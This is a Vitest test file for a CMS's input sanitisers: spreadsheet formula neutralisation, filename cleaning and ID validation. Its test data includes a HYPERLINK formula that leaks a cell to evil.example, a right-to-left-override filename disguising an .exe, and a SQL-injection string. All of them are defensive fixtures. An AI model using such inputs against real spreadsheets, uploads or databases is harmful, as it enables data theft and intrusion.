import { describe, expect, it } from 'vitest'

import { cleanFilename } from '../../cms/domain/filenames.ts'
import { neutraliseFormula, withoutFormulaGuard } from '../../cms/domain/formulaGuard.ts'
import { type IdKind, isWellFormedId } from '../../cms/domain/ids.ts'

describe.each<[string, string, string]>([
  ['a formula', '=HYPERLINK("http://evil.example/?leak="&A1,"x")', `'=HYPERLINK("http://evil.example/?leak="&A1,"x")`],
  ['a plus sign', '+62 911 352', "'+62 911 352"],
  ['a minus sign before text', '-Dinas', "'-Dinas"],
  ['an at sign', '@SUM(A1)', "'@SUM(A1)"],
  ['a leading tab', '\t=1+1', "'\t=1+1"],
  ['a leading carriage return', '\r=1+1', "'\r=1+1"],
  ['a negative number', '-12.5', '-12.5'],
  ['a signed number with an exponent', '+1e3', '+1e3'],
  ['plain text', 'Dinas Lingkungan Hidup', 'Dinas Lingkungan Hidup'],
  ['a formula sign inside the text', 'A=B', 'A=B'],
  ['empty text', '', ''],
])('neutraliseFormula', (what, text, written) => {
  it(`writes ${what} as ${JSON.stringify(written)}, and reads it back`, () => {
    expect(neutraliseFormula(text)).toBe(written)
    expect(withoutFormulaGuard(written)).toBe(text)
  })
})

describe('withoutFormulaGuard', () => {
  it("keeps a quote that guards nothing, as a person typed it", () => {
    expect(withoutFormulaGuard("'Apa kabar")).toBe("'Apa kabar")
    expect(withoutFormulaGuard("'-5")).toBe("'-5")
  })
})

describe.each<[string, string, string]>([
  ['a right-to-left override', 'x\u202Efdp.exe', 'xfdp.exe'],
  ['isolates', 'foto\u2067gpj.exe\u2069.png', 'fotogpj.exe.png'],
  ['marks', 'a\u200Eb\u200Fc\u061C.pdf', 'abc.pdf'],
  ['control characters', 'sk\u0000wali\u0007kota.pdf', 'skwalikota.pdf'],
  ['nothing but controls', '\u202E\u0000', 'berkas'],
  ['an ordinary name', 'SK Walikota Ambon 2023.pdf', 'SK Walikota Ambon 2023.pdf'],
])('cleanFilename', (what, name, stored) => {
  it(`drops ${what}`, () => {
    expect(cleanFilename(name)).toBe(stored)
  })
})

describe.each<[IdKind, string, boolean]>([
  ['integer', '12', true],
  ['integer', '0', true],
  ['integer', "2' OR '1'='1", false],
  ['integer', '2abc', false],
  ['integer', 'abc', false],
  ['integer', '012', false],
  ['integer', '1.5', false],
  ['integer', '-1', false],
  ['integer', '', false],
  ['integer', '99999999999999999999', false],
  ['objectId', '65a1f0c2e4b0a1b2c3d4e5f6', true],
  ['objectId', '65a1f0c2e4b0a1b2c3d4e5f', false],
  ['objectId', '12', false],
  ['text', 'kebijakan-2023', true],
  ['text', 'a\u0000b', false],
])('isWellFormedId', (kind, text, wellFormed) => {
  it(`${wellFormed ? 'accepts' : 'refuses'} ${JSON.stringify(text)} as ${kind}`, () => {
    expect(isWellFormedId(text, kind)).toBe(wellFormed)
  })
})
